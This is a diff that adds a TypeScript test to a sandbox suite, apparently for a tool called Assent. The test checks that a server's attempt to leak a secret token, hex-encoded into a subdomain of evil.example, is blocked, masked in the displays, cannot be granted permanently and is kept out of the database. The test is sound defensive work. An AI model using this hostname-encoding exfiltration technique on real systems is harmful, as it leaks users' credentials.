@@ -1,5 +1,5 @@
 // What a sandbox refused, with a real server in a real one: seen at the call, listed, answered, and on record.
-import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
@@ -162,6 +162,28 @@ describe.skipIf((await findEngine()).kind !== 'bubblewrap')('what the sandbox re
     ])
     expect([office.asked, trap.asked]).toEqual([['api.example:443'], []])
     for (const proxy of [office, trap]) proxy.close()
+  })
+
+  test('names no secret of the entry, which the server wrote into the name of a host', async () => {
+    const secret = 'S3cret-Value-4711-of-the-entry'
+    const made = start([], undefined, { env: { NOTES_TOKEN: secret } })
+    await made.start()
+    const hidden = `${Buffer.from(secret).toString('hex')}.evil.example`
+    const failed = await made.call('reach', { to: `${hidden}:443` })
+    const shown = { kind: 'host', target: '•••.evil.example', port: 443, refused: 'not-granted' } as const
+    expect(blockedOf(failed)).toEqual([shown])
+    expect(await made.attempts()).toMatchObject([{ ...shown, allowance: 'never' }])
+    const rows = await made.audit('reach')
+    expect(rows.flatMap(({ kind, detail }) => (kind === 'result' ? [detail['sandbox']] : []))).toEqual([
+      { reached: [], blocked: ['•••.evil.example:443'] },
+    ])
+    const { kind, target, port } = shown
+    await expect(made.answer({ kind, target, port }, 'always')).rejects.toMatchObject({ code: 'server.sandbox-attempt' })
+    await made.answer({ kind, target, port }, 'keep')
+    expect(await made.attempts()).toMatchObject([{ target, refused: 'denied' }])
+    await made.host.dispose()
+    const database = readFileSync(join(made.dataDir, 'assent.db'))
+    expect([database.includes('.evil.example'), database.includes(hidden.slice(0, 40))]).toEqual([true, false])
   })
 
   test('is at the call, in the list, on record, and with the doctor, also after a restart of Assent', async () => {
